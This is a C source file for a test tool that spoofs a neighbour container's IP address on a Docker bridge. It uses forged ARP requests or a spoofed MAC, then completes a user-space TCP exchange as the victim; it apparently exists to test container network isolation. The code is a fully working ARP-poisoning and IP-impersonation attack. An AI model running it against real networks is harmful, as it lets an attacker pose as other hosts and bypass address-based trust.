/* spoof: a test attacker that wears a neighbour container's IPv4 address on a
 * Docker bridge and completes a TCP exchange with it, using nothing but a packet
 * socket (CAP_NET_RAW, which Docker grants by default; no CAP_NET_ADMIN).
 *
 *   --mode arp  claims the victim's address for a made-up MAC with one ARP
 *               request to the gateway: the host's neighbour entry for the
 *               victim now names that MAC, which the bridge learns on our port.
 *   --mode mac  sends with the victim's own MAC: the bridge's forwarding table
 *               moves that MAC to our port; the host's neighbour entry stays right.
 *
 * Then a TCP handshake in user space from victim-ip:random-port to the target,
 * the request bytes, the response collected until the peer's FIN or the timeout,
 * and one JSON object on stdout:
 *   {"mode":"arp"|"mac", "handshake":bool, "sent":<request bytes the peer
 *    acknowledged>, "received":"<response payload>", "peer_closed":<peer sent
 *    FIN>, "error":null|"...", "netadmin":"refused: EPERM"|"allowed" (with
 *    --check-netadmin)}
 * Exit 0 when the handshake completed, else 1. Everything is bounded by
 * --timeout-ms (default 3000).
 *
 * Build: gcc -static -O2 -Wall -Wextra -o spoof spoof.c   (libc only)
 * Run as the entrypoint of a FROM scratch image.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define IP_HLEN 20
#define TCP_HLEN 20
#define OUR_MSS 1460
#define OUR_WINDOW 65535
#define RTO_MS 200            /* retransmit when nothing was acknowledged for this long */
#define CLAIM_EVERY_MS 100    /* re-assert our claim on the address this often */
#define MAX_RESPONSE (16u << 20)

#define TH_FIN 0x01
#define TH_SYN 0x02
#define TH_RST 0x04
#define TH_PSH 0x08
#define TH_ACK 0x10

struct opts {
    const char *mode, *iface;
    struct in_addr victim_ip, gateway_ip, target_ip;
    uint8_t victim_mac[6], gateway_mac[6];
    int have_victim_mac, have_victim_ip, have_gateway_ip, have_gateway_mac, have_target_ip;
    uint16_t target_port;
    const char *request_file, *request_str;
    long timeout_ms;
    int check_netadmin;
};

/* One connection, seen from our (the fake victim's) side. Sequence numbers are
 * host order; addresses network order. */
struct conn {
    int fd, ifindex;
    uint8_t src_mac[6], dst_mac[6];
    uint32_t src_ip, dst_ip, claim_target_ip;
    uint16_t sport, dport, ip_id;
    uint32_t iss, snd_una, snd_nxt, rcv_nxt;
    uint32_t peer_wnd;
    uint16_t peer_mss;
    long last_claim_ms;
};

/* A received TCP segment addressed to our connection. */
struct seg {
    uint8_t flags;
    uint32_t seq, ack, wnd;
    uint16_t mss;              /* from the SYN-ACK's option, 0 when absent */
    const uint8_t *data;
    uint32_t len;
};

/* A growing byte buffer for the response (bounded by MAX_RESPONSE). */
struct buf {
    uint8_t *p;
    size_t len, cap;
};

static long now_ms(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
}

/* Sequence-space comparison that survives wrap-around. */
static int seq_lt(uint32_t a, uint32_t b) { return (int32_t)(a - b) < 0; }
static int seq_le(uint32_t a, uint32_t b) { return (int32_t)(a - b) <= 0; }

static int buf_append(struct buf *b, const uint8_t *p, size_t n) {
    if (b->len + n > MAX_RESPONSE)
        return -1;
    if (b->len + n > b->cap) {
        size_t cap = b->cap ? b->cap : 4096;
        while (cap < b->len + n)
            cap *= 2;
        uint8_t *q = realloc(b->p, cap);
        if (!q)
            return -1;
        b->p = q;
        b->cap = cap;
    }
    memcpy(b->p + b->len, p, n);
    b->len += n;
    return 0;
}

/* ---- arguments ---------------------------------------------------------- */

static int parse_mac(const char *s, uint8_t mac[6]) {
    unsigned v[6];
    char tail;
    if (sscanf(s, "%x:%x:%x:%x:%x:%x%c", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5], &tail) != 6)
        return -1;
    for (int i = 0; i < 6; i++) {
        if (v[i] > 0xff)
            return -1;
        mac[i] = (uint8_t)v[i];
    }
    return 0;
}

/* --request takes C-style escapes so an HTTP request fits on a command line:
 * \r \n \t \\ \" \' \0 and \xHH. */
static int unescape(const char *s, struct buf *out) {
    while (*s) {
        uint8_t c = (uint8_t)*s++;
        if (c == '\\') {
            char e = *s++;
            switch (e) {
            case 'r': c = '\r'; break;
            case 'n': c = '\n'; break;
            case 't': c = '\t'; break;
            case '0': c = 0; break;
            case '\\': case '"': case '\'': c = (uint8_t)e; break;
            case 'x': {
                unsigned v;
                int used;
                if (sscanf(s, "%2x%n", &v, &used) != 1)
                    return -1;
                s += used;
                c = (uint8_t)v;
                break;
            }
            default:
                return -1;
            }
        }
        if (buf_append(out, &c, 1) < 0)
            return -1;
    }
    return 0;
}

static int read_file(const char *path, struct buf *out) {
    FILE *f = fopen(path, "rb");
    if (!f)
        return -1;
    uint8_t chunk[4096];
    size_t n;
    int rc = 0;
    while ((n = fread(chunk, 1, sizeof chunk, f)) > 0)
        if (buf_append(out, chunk, n) < 0) {
            rc = -1;
            break;
        }
    if (ferror(f))
        rc = -1;
    fclose(f);
    return rc;
}

static void usage(void) {
    fputs("usage: spoof --mode arp|mac --iface IFACE --victim-ip A [--victim-mac M (mac mode)]\n"
          "             --gateway-ip G --gateway-mac GM --target-ip T --target-port P\n"
          "             [--request-file F | --request STR] [--timeout-ms 3000] [--check-netadmin]\n"
          "  --request takes C-style escapes (\\r \\n \\t \\\\ \\\" \\0 \\xHH).\n"
          "  Prints one JSON object; \"received\" maps each byte >= 0x80 to U+0080..U+00FF.\n",
          stderr);
}

/* ---- JSON output -------------------------------------------------------- */

/* Bytes as a JSON string. Bytes >= 0x80 become \u0080..\u00ff so that any
 * payload yields valid JSON and the bytes can be recovered (latin-1). */
static void json_bytes(const uint8_t *p, size_t n) {
    putchar('"');
    for (size_t i = 0; i < n; i++) {
        uint8_t c = p[i];
        if (c == '"' || c == '\\')
            printf("\\%c", c);
        else if (c == '\n')
            fputs("\\n", stdout);
        else if (c == '\r')
            fputs("\\r", stdout);
        else if (c == '\t')
            fputs("\\t", stdout);
        else if (c < 0x20 || c >= 0x7f)
            printf("\\u%04x", c);
        else
            putchar(c);
    }
    putchar('"');
}

static void json_str_or_null(const char *s) {
    if (s)
        json_bytes((const uint8_t *)s, strlen(s));
    else
        fputs("null", stdout);
}

/* ---- frames ------------------------------------------------------------- */

static uint16_t csum_fold(uint32_t sum) {
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

static uint32_t csum_add(uint32_t sum, const uint8_t *p, size_t n) {
    for (size_t i = 0; i + 1 < n; i += 2)
        sum += (uint32_t)(p[i] << 8 | p[i + 1]);
    if (n & 1)
        sum += (uint32_t)(p[n - 1] << 8);
    return sum;
}

static void put16(uint8_t *p, uint16_t v) { p[0] = (uint8_t)(v >> 8); p[1] = (uint8_t)v; }
static void put32(uint8_t *p, uint32_t v) { put16(p, (uint16_t)(v >> 16)); put16(p + 2, (uint16_t)v); }
static uint16_t get16(const uint8_t *p) { return (uint16_t)(p[0] << 8 | p[1]); }
static uint32_t get32(const uint8_t *p) { return (uint32_t)get16(p) << 16 | get16(p + 2); }

static int send_frame(struct conn *c, const uint8_t *frame, size_t len) {
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = c->ifindex, .sll_halen = 6};
    memcpy(to.sll_addr, frame, 6);
    return sendto(c->fd, frame, len, 0, (struct sockaddr *)&to, sizeof to) == (ssize_t)len ? 0 : -1;
}

/* The claim: an ARP request "who has <gateway>? tell <victim-ip> at <our MAC>",
 * unicast to the gateway. Linux answers a request for its own address by first
 * writing the sender into its neighbour table (neigh_event_ns, state STALE,
 * overriding any MAC it had), so this rewrites the victim's entry in arp mode
 * and, in mac mode, keeps it present and right (with no entry the host would
 * broadcast a request, the victim would answer and pull its MAC back). The frame
 * also teaches the bridge that our source MAC lives on our port. */
static int send_claim(struct conn *c) {
    uint8_t f[ETH_HLEN + 28] = {0};
    memcpy(f, c->dst_mac, 6);
    memcpy(f + 6, c->src_mac, 6);
    put16(f + 12, ETH_P_ARP);
    uint8_t *a = f + ETH_HLEN;
    put16(a, 1);              /* hardware: Ethernet */
    put16(a + 2, ETH_P_IP);   /* protocol: IPv4 */
    a[4] = 6;
    a[5] = 4;
    put16(a + 6, 1);          /* request */
    memcpy(a + 8, c->src_mac, 6);
    memcpy(a + 14, &c->src_ip, 4);
    memcpy(a + 24, &c->claim_target_ip, 4);   /* target MAC stays zero */
    c->last_claim_ms = now_ms();
    return send_frame(c, f, sizeof f);
}

/* One TCP segment from victim-ip:sport, with correct IPv4 and TCP checksums.
 * A SYN carries our MSS so the peer sizes its segments for the bridge. */
static int send_tcp(struct conn *c, uint8_t flags, uint32_t seq, const uint8_t *data, size_t len) {
    uint8_t f[ETH_HLEN + IP_HLEN + TCP_HLEN + 4 + OUR_MSS];
    size_t optlen = (flags & TH_SYN) ? 4 : 0;
    size_t tcplen = TCP_HLEN + optlen + len;
    memcpy(f, c->dst_mac, 6);
    memcpy(f + 6, c->src_mac, 6);
    put16(f + 12, ETH_P_IP);

    uint8_t *ip = f + ETH_HLEN;
    memset(ip, 0, IP_HLEN);
    ip[0] = 0x45;
    put16(ip + 2, (uint16_t)(IP_HLEN + tcplen));
    put16(ip + 4, c->ip_id++);
    put16(ip + 6, 0x4000);    /* don't fragment */
    ip[8] = 64;
    ip[9] = IPPROTO_TCP;
    memcpy(ip + 12, &c->src_ip, 4);
    memcpy(ip + 16, &c->dst_ip, 4);
    put16(ip + 10, csum_fold(csum_add(0, ip, IP_HLEN)));

    uint8_t *t = ip + IP_HLEN;
    memset(t, 0, TCP_HLEN + optlen);
    put16(t, c->sport);
    put16(t + 2, c->dport);
    put32(t + 4, seq);
    put32(t + 8, (flags & TH_ACK) ? c->rcv_nxt : 0);
    t[12] = (uint8_t)(((TCP_HLEN + optlen) / 4) << 4);
    t[13] = flags;
    put16(t + 14, OUR_WINDOW);
    if (optlen) {
        t[20] = 2;            /* MSS option */
        t[21] = 4;
        put16(t + 22, OUR_MSS);
    }
    memcpy(t + TCP_HLEN + optlen, data, len);
    /* Pseudo-header: source, destination, zero, protocol, TCP length. */
    uint8_t pseudo[12];
    memcpy(pseudo, &c->src_ip, 4);
    memcpy(pseudo + 4, &c->dst_ip, 4);
    pseudo[8] = 0;
    pseudo[9] = IPPROTO_TCP;
    put16(pseudo + 10, (uint16_t)tcplen);
    put16(t + 16, csum_fold(csum_add(csum_add(0, pseudo, 12), t, tcplen)));
    return send_frame(c, f, ETH_HLEN + IP_HLEN + tcplen);
}

/* Waits up to wait_ms for a segment of our connection (target:dport ->
 * victim:sport). The frames are addressed to a MAC that is not our interface's,
 * so the kernel marks them PACKET_OTHERHOST: the packet socket still gets them,
 * and the IP layer drops them, which is why our own kernel sends no RST.
 * Returns 1 with *s filled, 0 on timeout, -1 on a socket error. */
static int recv_segment(struct conn *c, long wait_ms, uint8_t *frame, size_t cap, struct seg *s) {
    long until = now_ms() + wait_ms;
    for (;;) {
        long left = until - now_ms();
        if (left < 0)
            left = 0;
        struct pollfd p = {.fd = c->fd, .events = POLLIN};
        int r = poll(&p, 1, (int)left);
        if (r < 0 && errno == EINTR)
            continue;
        if (r <= 0)
            return r;
        ssize_t n = recv(c->fd, frame, cap, 0);
        if (n < 0 && errno == EINTR)
            continue;
        if (n < 0)
            return -1;
        if (n < ETH_HLEN + IP_HLEN + TCP_HLEN || get16(frame + 12) != ETH_P_IP)
            continue;
        const uint8_t *ip = frame + ETH_HLEN;
        size_t ihl = (size_t)(ip[0] & 0x0f) * 4;
        size_t tot = get16(ip + 2);
        if ((ip[0] >> 4) != 4 || ihl < IP_HLEN || ip[9] != IPPROTO_TCP || tot > (size_t)n - ETH_HLEN ||
            tot < ihl + TCP_HLEN || (get16(ip + 6) & 0x3fff) != 0 ||
            memcmp(ip + 12, &c->dst_ip, 4) != 0 || memcmp(ip + 16, &c->src_ip, 4) != 0)
            continue;
        const uint8_t *t = ip + ihl;
        size_t doff = (size_t)(t[12] >> 4) * 4;
        if (get16(t) != c->dport || get16(t + 2) != c->sport || doff < TCP_HLEN || ihl + doff > tot)
            continue;
        s->flags = t[13];
        s->seq = get32(t + 4);
        s->ack = get32(t + 8);
        s->wnd = get16(t + 14);
        s->mss = 0;
        for (size_t i = TCP_HLEN; i < doff;) {      /* options: only MSS matters */
            uint8_t kind = t[i];
            if (kind == 0)
                break;
            if (kind == 1) {
                i++;
                continue;
            }
            if (i + 1 >= doff || t[i + 1] < 2 || i + t[i + 1] > doff)
                break;
            if (kind == 2 && t[i + 1] == 4)
                s->mss = get16(t + i + 2);
            i += t[i + 1];
        }
        s->data = t + doff;
        s->len = (uint32_t)(tot - ihl - doff);
        return 1;
    }
}

/* ---- the exchange ------------------------------------------------------- */

struct result {
    int handshake, peer_closed;
    size_t sent;
    struct buf received;
    const char *error;
};

/* Re-asserts the claim when it is older than CLAIM_EVERY_MS: the victim may
 * send frames of its own (which move its MAC back in the bridge) or ARP (which
 * restores the host's neighbour entry) at any moment. */
static void keep_claim(struct conn *c) {
    if (now_ms() - c->last_claim_ms >= CLAIM_EVERY_MS)
        send_claim(c);
}

/* Handles one in-connection segment: takes its acknowledgement and, in order,
 * its payload and FIN. Returns 1 when the segment needs our ACK. */
static int take_segment(struct conn *c, const struct seg *s, struct result *res) {
    if ((s->flags & TH_ACK) && seq_lt(c->snd_una, s->ack) && seq_le(s->ack, c->snd_nxt))
        c->snd_una = s->ack;
    if (s->flags & TH_ACK)
        c->peer_wnd = s->wnd;
    uint32_t seq = s->seq, len = s->len;
    const uint8_t *data = s->data;
    if (seq_lt(seq, c->rcv_nxt)) {          /* a retransmission: keep only what is new */
        uint32_t old = c->rcv_nxt - seq;
        if (old >= len) {
            len = 0;
        } else {
            data += old;
            len -= old;
            seq = c->rcv_nxt;
        }
    }
    if (seq == c->rcv_nxt && len) {
        if (buf_append(&res->received, data, len) < 0) {
            res->error = "response larger than the buffer";
            return 0;
        }
        c->rcv_nxt += len;
    }
    if ((s->flags & TH_FIN) && s->seq + s->len == c->rcv_nxt) {
        c->rcv_nxt++;
        res->peer_closed = 1;
    }
    /* Anything that occupies sequence space gets an ACK: in order, it moves the
     * peer on; out of order or repeated, it tells the peer what we still miss. */
    return s->len > 0 || (s->flags & (TH_SYN | TH_FIN));
}

static void run_exchange(struct conn *c, const struct buf *req, long deadline, struct result *res) {
    uint8_t frame[ETH_HLEN + 65536];
    struct seg s;

    /* Handshake: SYN (after the claim), retransmitted every RTO_MS until a
     * SYN-ACK acknowledges it or the deadline passes. */
    c->snd_una = c->iss;
    c->snd_nxt = c->iss + 1;
    while (!res->handshake) {
        long left = deadline - now_ms();
        if (left <= 0) {
            res->error = "timeout: no SYN-ACK";
            return;
        }
        send_claim(c);
        if (send_tcp(c, TH_SYN, c->iss, NULL, 0) < 0) {
            res->error = "send failed";
            return;
        }
        long until = now_ms() + (left < RTO_MS ? left : RTO_MS);
        for (long w; (w = until - now_ms()) > 0;) {
            int r = recv_segment(c, w, frame, sizeof frame, &s);
            if (r < 0) {
                res->error = "receive failed";
                return;
            }
            if (r == 0)
                break;
            if ((s.flags & TH_RST) && (s.flags & TH_ACK) && s.ack == c->iss + 1) {
                res->error = "connection refused (RST)";
                return;
            }
            if ((s.flags & (TH_SYN | TH_ACK)) == (TH_SYN | TH_ACK) && s.ack == c->iss + 1) {
                c->rcv_nxt = s.seq + 1;
                c->snd_una = s.ack;
                c->peer_wnd = s.wnd;
                c->peer_mss = s.mss ? s.mss : 536;   /* RFC 9293 default */
                res->handshake = 1;
                break;
            }
        }
    }
    if (send_tcp(c, TH_ACK, c->snd_nxt, NULL, 0) < 0) {
        res->error = "send failed";
        return;
    }

    /* Data: send the request within the peer's window and MSS (go-back-N after
     * RTO_MS without progress), ACK what comes back, until the peer's FIN. */
    uint32_t data_start = c->snd_nxt;
    uint32_t data_end = data_start + (uint32_t)req->len;
    long progress_ms = now_ms();
    while (!res->peer_closed && !res->error) {
        long left = deadline - now_ms();
        if (left <= 0)
            break;
        keep_claim(c);
        if (c->snd_una != data_end && now_ms() - progress_ms >= RTO_MS) {
            c->snd_nxt = c->snd_una;
            progress_ms = now_ms();
        }
        while (seq_lt(c->snd_nxt, data_end)) {
            uint32_t off = c->snd_nxt - data_start;
            uint32_t n = data_end - c->snd_nxt;
            uint32_t mss = c->peer_mss < OUR_MSS ? c->peer_mss : OUR_MSS;
            uint32_t in_flight = c->snd_nxt - c->snd_una;
            if (n > mss)
                n = mss;
            if (in_flight + n > c->peer_wnd)
                break;      /* window full (or zero): the RTO above probes it again */
            uint8_t flags = TH_ACK | (c->snd_nxt + n == data_end ? TH_PSH : 0);
            if (send_tcp(c, flags, c->snd_nxt, req->p + off, n) < 0) {
                res->error = "send failed";
                return;
            }
            c->snd_nxt += n;
        }
        long wait = left < CLAIM_EVERY_MS ? left : CLAIM_EVERY_MS;
        int r = recv_segment(c, wait, frame, sizeof frame, &s);
        if (r < 0) {
            res->error = "receive failed";
            return;
        }
        if (r == 0)
            continue;
        if (s.flags & TH_RST) {
            res->error = "connection reset by peer";
            return;
        }
        uint32_t una = c->snd_una;
        if (take_segment(c, &s, res) && send_tcp(c, TH_ACK, c->snd_nxt, NULL, 0) < 0) {
            res->error = "send failed";
            return;
        }
        if (c->snd_una != una) {
            progress_ms = now_ms();
            res->sent = (size_t)(c->snd_una - data_start);
        }
    }

    /* Close: FIN/ACK after the peer's FIN (waiting briefly for its ACK so the
     * server's socket ends cleanly); RST when we give up, so nothing lingers. */
    if (res->error || !res->peer_closed) {
        send_tcp(c, TH_RST | TH_ACK, c->snd_nxt, NULL, 0);
        return;
    }
    uint32_t fin_seq = c->snd_nxt;
    long fin_until = now_ms() + 500;
    if (fin_until > deadline)
        fin_until = deadline;
    for (long t = now_ms(); t < fin_until; t = now_ms()) {
        send_tcp(c, TH_FIN | TH_ACK, fin_seq, NULL, 0);
        long w = fin_until - t < RTO_MS ? fin_until - t : RTO_MS;
        if (recv_segment(c, w, frame, sizeof frame, &s) == 1 && (s.flags & TH_ACK) &&
            seq_lt(fin_seq, s.ack))
            break;
    }
}

/* ---- CAP_NET_ADMIN check ------------------------------------------------ */

/* Tries to add victim-ip to the interface as an alias (SIOCSIFADDR on
 * "<iface>:sp"): what an attacker with CAP_NET_ADMIN would do instead of all of
 * the above. Docker's default capabilities must refuse it (EPERM). If it
 * succeeds, the alias is removed again at once (an alias brought down is
 * deleted). */
static const char *check_netadmin(const char *iface, struct in_addr ip) {
    static char out[96];
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    if (s < 0) {
        snprintf(out, sizeof out, "untested: socket: %s", strerrorname_np(errno));
        return out;
    }
    struct ifreq ifr = {0};
    if (snprintf(ifr.ifr_name, IFNAMSIZ, "%s:sp", iface) >= IFNAMSIZ) {
        close(s);
        return "untested: interface name too long for an alias";
    }
    struct sockaddr_in *sin = (struct sockaddr_in *)&ifr.ifr_addr;
    sin->sin_family = AF_INET;
    sin->sin_addr = ip;
    if (ioctl(s, SIOCSIFADDR, &ifr) < 0) {
        snprintf(out, sizeof out, "refused: %s", strerrorname_np(errno));
    } else {
        ifr.ifr_flags = 0;
        if (ioctl(s, SIOCSIFFLAGS, &ifr) < 0)
            snprintf(out, sizeof out, "allowed (undo failed: %s)", strerrorname_np(errno));
        else
            snprintf(out, sizeof out, "allowed");
    }
    close(s);
    return out;
}

/* ---- main --------------------------------------------------------------- */

static void print_result(const struct opts *o, const struct result *res, const char *netadmin) {
    fputs("{\"mode\":", stdout);
    json_str_or_null(o->mode);
    printf(",\"handshake\":%s,\"sent\":%zu,\"received\":", res->handshake ? "true" : "false", res->sent);
    json_bytes(res->received.p, res->received.len);
    printf(",\"peer_closed\":%s,\"error\":", res->peer_closed ? "true" : "false");
    json_str_or_null(res->error);
    if (netadmin) {
        fputs(",\"netadmin\":", stdout);
        json_str_or_null(netadmin);
    }
    fputs("}\n", stdout);
    fflush(stdout);
}

static int fail(const struct opts *o, struct result *res, const char *why) {
    res->error = why;
    print_result(o, res, NULL);
    return 1;
}

int main(int argc, char **argv) {
    struct opts o = {.timeout_ms = 3000};
    struct result res = {0};
    enum { O_MODE = 1, O_IFACE, O_VIP, O_VMAC, O_GIP, O_GMAC, O_TIP, O_TPORT, O_RFILE, O_REQ,
           O_TIMEOUT, O_NETADMIN };
    static const struct option longopts[] = {
        {"mode", required_argument, 0, O_MODE},
        {"iface", required_argument, 0, O_IFACE},
        {"victim-ip", required_argument, 0, O_VIP},
        {"victim-mac", required_argument, 0, O_VMAC},
        {"gateway-ip", required_argument, 0, O_GIP},
        {"gateway-mac", required_argument, 0, O_GMAC},
        {"target-ip", required_argument, 0, O_TIP},
        {"target-port", required_argument, 0, O_TPORT},
        {"request-file", required_argument, 0, O_RFILE},
        {"request", required_argument, 0, O_REQ},
        {"timeout-ms", required_argument, 0, O_TIMEOUT},
        {"check-netadmin", no_argument, 0, O_NETADMIN},
        {0, 0, 0, 0},
    };
    const char *bad = NULL;
    for (int opt; !bad && (opt = getopt_long(argc, argv, "", longopts, NULL)) != -1;) {
        char *end;
        long v;
        switch (opt) {
        case O_MODE: o.mode = optarg; break;
        case O_IFACE: o.iface = optarg; break;
        case O_VIP: o.have_victim_ip = inet_pton(AF_INET, optarg, &o.victim_ip) == 1; break;
        case O_VMAC: o.have_victim_mac = parse_mac(optarg, o.victim_mac) == 0; break;
        case O_GIP: o.have_gateway_ip = inet_pton(AF_INET, optarg, &o.gateway_ip) == 1; break;
        case O_GMAC: o.have_gateway_mac = parse_mac(optarg, o.gateway_mac) == 0; break;
        case O_TIP: o.have_target_ip = inet_pton(AF_INET, optarg, &o.target_ip) == 1; break;
        case O_TPORT:
            v = strtol(optarg, &end, 10);
            if (*end || v < 1 || v > 65535)
                bad = "bad --target-port";
            o.target_port = (uint16_t)v;
            break;
        case O_RFILE: o.request_file = optarg; break;
        case O_REQ: o.request_str = optarg; break;
        case O_TIMEOUT:
            o.timeout_ms = strtol(optarg, &end, 10);
            if (*end || o.timeout_ms < 1 || o.timeout_ms > 600000)
                bad = "bad --timeout-ms (1..600000)";
            break;
        case O_NETADMIN: o.check_netadmin = 1; break;
        default: bad = "unknown option"; break;
        }
    }
    int arp = o.mode && strcmp(o.mode, "arp") == 0, mac = o.mode && strcmp(o.mode, "mac") == 0;
    if (!bad && optind < argc)
        bad = "unexpected argument";
    if (!bad && !arp && !mac)
        bad = "--mode must be arp or mac";
    if (!bad && (!o.iface || !o.have_victim_ip || !o.have_gateway_ip || !o.have_gateway_mac ||
                 !o.have_target_ip || !o.target_port))
        bad = "missing or malformed option (--iface, --victim-ip, --gateway-ip, --gateway-mac, "
              "--target-ip, --target-port)";
    if (!bad && mac && !o.have_victim_mac)
        bad = "--mode mac needs a well-formed --victim-mac";
    if (!bad && o.request_file && o.request_str)
        bad = "give --request-file or --request, not both";
    if (bad) {
        usage();
        return fail(&o, &res, bad);
    }

    /* Everything below is bounded by one deadline. */
    long deadline = now_ms() + o.timeout_ms;

    struct buf req = {0};
    if ((o.request_file && read_file(o.request_file, &req) < 0) ||
        (o.request_str && unescape(o.request_str, &req) < 0))
        return fail(&o, &res, "cannot read the request (file, escapes or size)");

    const char *netadmin = o.check_netadmin ? check_netadmin(o.iface, o.victim_ip) : NULL;

    struct conn c = {0};
    c.ifindex = (int)if_nametoindex(o.iface);
    if (!c.ifindex)
        return fail(&o, &res, "no such interface");
    /* Bound to ETH_P_IP on one interface: we read only IPv4 frames and write
     * whole Ethernet frames (ARP included) ourselves. CAP_NET_RAW suffices.
     * No promiscuous mode: a veth filters no MACs, so the frames the bridge
     * forwards to us for the made-up or victim MAC arrive anyway. */
    c.fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
    if (c.fd < 0)
        return fail(&o, &res, errno == EPERM ? "packet socket refused (no CAP_NET_RAW)"
                                              : "packet socket failed");
    struct sockaddr_ll sll = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP),
                              .sll_ifindex = c.ifindex};
    if (bind(c.fd, (struct sockaddr *)&sll, sizeof sll) < 0)
        return fail(&o, &res, "bind to the interface failed");

    /* Random source port, ISN and (arp mode) MAC: nothing a test must predict,
     * and no clash with a previous run's half-closed connection. */
    uint8_t rnd[12];
    if (getrandom(rnd, sizeof rnd, 0) != (ssize_t)sizeof rnd)
        return fail(&o, &res, "getrandom failed");
    if (arp) {
        memcpy(c.src_mac, rnd, 6);
        c.src_mac[0] = (uint8_t)((c.src_mac[0] & 0xfc) | 0x02);  /* unicast, locally administered */
    } else {
        memcpy(c.src_mac, o.victim_mac, 6);
    }
    memcpy(c.dst_mac, o.gateway_mac, 6);
    c.src_ip = o.victim_ip.s_addr;
    c.dst_ip = o.target_ip.s_addr;
    c.claim_target_ip = o.gateway_ip.s_addr;
    c.sport = (uint16_t)(32768 + (get16(rnd + 6) % 28232));   /* Linux's ephemeral range */
    c.dport = o.target_port;
    c.iss = get32(rnd + 8);
    c.ip_id = get16(rnd);

    run_exchange(&c, &req, deadline, &res);
    close(c.fd);
    print_result(&o, &res, netadmin);
    return res.handshake ? 0 : 1;
}
